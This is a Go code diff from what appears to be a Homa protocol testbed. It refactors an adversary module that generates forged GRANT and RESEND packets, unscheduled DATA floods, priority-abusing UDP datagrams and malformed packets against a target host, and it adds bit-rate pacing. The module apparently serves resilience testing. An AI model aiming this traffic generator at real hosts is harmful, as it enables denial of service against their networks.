@@ -21,47 +21,27 @@ import (
 	"net/netip"
 	"time"
 
+	"github.com/homatb/homatb/hostagent/adversary/kind"
 	"github.com/homatb/homatb/hostagent/homa"
 	"github.com/homatb/homatb/hostagent/homa/wire"
 )
 
-// Kind is an attack.
-type Kind string
-
-// The kinds.
-const (
-	// ForgedGrants sends GRANTs for guessed RPC ids of the victim's
-	// Calls, as if from their server, at the top priority.
-	ForgedGrants Kind = "forged_grants"
-	// ForgedResend sends RESENDs (everything, ResendAll) for guessed ids
-	// of requests to the victim's server port.
-	ForgedResend Kind = "forged_resend"
-	// UnschedFlood sends whole messages of blind DATA (every byte
-	// unscheduled) to the victim's server port at the top priority, each
-	// a new RPC.
-	UnschedFlood Kind = "unsched_flood"
-	// PriorityAbuse sends MTU-sized UDP datagrams marked with the top
-	// DSCP (TOS 0xe0) to the victim's discard port: traffic that is not
-	// Homa's but takes Homa's top queue in the switch.
-	PriorityAbuse Kind = "priority_abuse"
-	// Malformed sends Homa packets of every type damaged one of several
-	// ways: truncated, a field out of range, an unknown type, bad doff,
-	// offsets beyond the message.
-	Malformed Kind = "malformed"
-)
-
-// Kinds lists the kinds.
-var Kinds = []Kind{ForgedGrants, ForgedResend, UnschedFlood, PriorityAbuse, Malformed}
-
-// Valid reports whether k is a known kind.
-func (k Kind) Valid() bool {
-	for _, x := range Kinds {
-		if k == x {
-			return true
-		}
-	}
-	return false
-}
+// Kind is an attack; the kinds:
+//
+//   - forged_grants: GRANTs for guessed RPC ids of the victim's Calls, as
+//     if from their server, at the top priority;
+//   - forged_resend: RESENDs (everything, ResendAll) for guessed ids of
+//     requests to the victim's server port;
+//   - unsched_flood: whole messages of blind DATA (every byte
+//     unscheduled) to the victim's server port at the top priority, each a
+//     new RPC;
+//   - priority_abuse: MTU-sized UDP datagrams marked with the top DSCP
+//     (TOS 0xe0) to the victim's discard port: not Homa's traffic, but in
+//     Homa's top queue in the switch;
+//   - malformed: Homa packets of several types, each damaged one way:
+//     truncated, an unknown type, a doff of another type, a field out of
+//     range (lengths, offsets beyond the message, priorities).
+type Kind = kind.Kind
 
 // Config is one attack.
 type Config struct {
@@ -69,9 +49,10 @@ type Config struct {
 	// Target is the victim host's address; Port its Homa server port.
 	Target netip.Addr
 	Port   uint16
-	// Rate is packets per second.
+	// Rate is bits per second of IP packets (the IPv4 header counted).
 	Rate float64
-	// For bounds the attack's time, MaxPackets its count (0: Rate×For).
+	// For bounds the attack's time, MaxPackets its count (0: as many of
+	// the smallest packets as Rate×For allows).
 	For        time.Duration
 	MaxPackets uint64
 	// MTU is the link's (default 1500); DATA and datagrams fill it.
@@ -104,7 +85,7 @@ const batch = 64
 // not fatal: the adversary does not back off.
 func Run(ctx context.Context, s Sender, cfg Config) (Counters, error) {
 	if !cfg.Kind.Valid() {
-		return Counters{}, fmt.Errorf("adversary: kind %q not one of %v", cfg.Kind, Kinds)
+		return Counters{}, fmt.Errorf("adversary: kind %q not one of %v", cfg.Kind, kind.All())
 	}
 	if cfg.Rate <= 0 || cfg.For <= 0 {
 		return Counters{}, fmt.Errorf("adversary: rate %g and for %v must be positive", cfg.Rate, cfg.For)
@@ -114,7 +95,7 @@ func Run(ctx context.Context, s Sender, cfg Config) (Counters, error) {
 	}
 	limit := cfg.MaxPackets
 	if limit == 0 {
-		limit = uint64(cfg.Rate*cfg.For.Seconds()) + 1
+		limit = uint64(cfg.Rate/8*cfg.For.Seconds()/ipHeader) + 1
 	}
 	g := newGenerator(cfg)
 	cnt := Counters{Kind: cfg.Kind, Target: cfg.Target.String()}
@@ -125,7 +106,7 @@ func Run(ctx context.Context, s Sender, cfg Config) (Counters, error) {
 	start := time.Now()
 	tick := time.NewTicker(time.Millisecond)
 	defer tick.Stop()
-	var owed float64
+	var owed, sent float64 // bytes on the wire's IP layer
 	for cnt.Packets < limit {
 		select {
 		case <-ctx.Done():
@@ -136,21 +117,24 @@ func Run(ctx context.Context, s Sender, cfg Config) (Counters, error) {
 				cnt.Seconds = now.Sub(start).Seconds()
 				return cnt, nil
 			}
-			// Packets due by now, so a late tick catches up.
-			owed = cfg.Rate*now.Sub(start).Seconds() - float64(cnt.Packets)
+			// Bytes due by now, so a late tick catches up.
+			owed = cfg.Rate/8*now.Sub(start).Seconds() - sent
 		}
-		for owed >= 1 && cnt.Packets < limit {
-			n := min(int(owed), batch, int(limit-cnt.Packets))
-			for i := range n {
-				pkts[i].Buf, pkts[i].TOS = g.next(pkts[i].Buf[:0])
-				cnt.Bytes += uint64(len(pkts[i].Buf))
+		for owed > 0 && cnt.Packets < limit {
+			n := 0
+			for n < batch && owed > 0 && cnt.Packets+uint64(n) < limit {
+				pkts[n].Buf, pkts[n].TOS = g.next(pkts[n].Buf[:0])
+				sz := float64(len(pkts[n].Buf) + g.header())
+				owed -= sz
+				sent += sz
+				cnt.Bytes += uint64(len(pkts[n].Buf))
+				n++
 			}
 			if err := s.WriteBatch(pkts[:n]); err != nil {
 				cnt.WriteErrors++
 			}
 			cnt.Batches++
 			cnt.Packets += uint64(n)
-			owed -= float64(n)
 		}
 	}
 	cnt.Seconds = time.Since(start).Seconds()
@@ -162,6 +146,21 @@ const clientPort = 0x8000
 
 // topTOS is the TOS byte of the top priority (7).
 const topTOS = 7 << 5
+
+// ipHeader and udpHeader are the bytes in front of a packet's payload.
+const (
+	ipHeader  = 20
+	udpHeader = 8
+)
+
+// header is the bytes in front of each packet the kernel sends: the IPv4
+// header, and for priority_abuse the UDP header too.
+func (g *generator) header() int {
+	if g.cfg.Kind == kind.PriorityAbuse {
+		return ipHeader + udpHeader
+	}
+	return ipHeader
+}
 
 // generator makes the packets of one attack.
 type generator struct {
@@ -180,18 +179,18 @@ func newGenerator(cfg Config) *generator {
 // packets, all sent blind.
 func (g *generator) floodMessage() uint32 { return 10 * g.payload() }
 
-func (g *generator) payload() uint32 { return uint32(g.cfg.MTU - 20 - wire.DataLen) }
+func (g *generator) payload() uint32 { return uint32(g.cfg.MTU - ipHeader - wire.DataLen) }
 
 // next appends the next packet to b and returns it with its TOS byte.
 func (g *generator) next(b []byte) ([]byte, uint8) {
 	switch g.cfg.Kind {
-	case ForgedGrants:
+	case kind.ForgedGrants:
 		c := wire.Common{SPort: g.cfg.Port, DPort: clientPort, SenderID: g.rng.Uint64() | 1}
 		return wire.AppendGrant(b, &wire.Grant{Common: c, Offset: g.rng.Uint32N(1_000_000), Priority: 7}), topTOS
-	case ForgedResend:
+	case kind.ForgedResend:
 		c := wire.Common{SPort: clientPort, DPort: g.cfg.Port, SenderID: g.rng.Uint64() &^ 1}
 		return wire.AppendResend(b, &wire.Resend{Common: c, Offset: 0, Length: wire.ResendAll, Priority: 7}), topTOS
-	case UnschedFlood:
+	case kind.UnschedFlood:
 		n := g.floodMessage()
 		if g.id == 0 || g.offset >= n {
 			g.id, g.offset = g.rng.Uint64()&^1|2, 0
@@ -202,8 +201,8 @@ func (g *generator) next(b []byte) ([]byte, uint8) {
 		pl := min(g.payload(), n-g.offset)
 		g.offset += pl
 		return b[:len(b)+int(pl)], topTOS // the buffer's bytes as payload: their value is irrelevant
-	case PriorityAbuse:
-		return b[:g.cfg.MTU-28], topTOS // a UDP payload filling the MTU
+	case kind.PriorityAbuse:
+		return b[:g.cfg.MTU-ipHeader-udpHeader], topTOS // a UDP payload filling the MTU
 	default:
 		return g.malformed(b), uint8(g.rng.IntN(8)) << 5
 	}
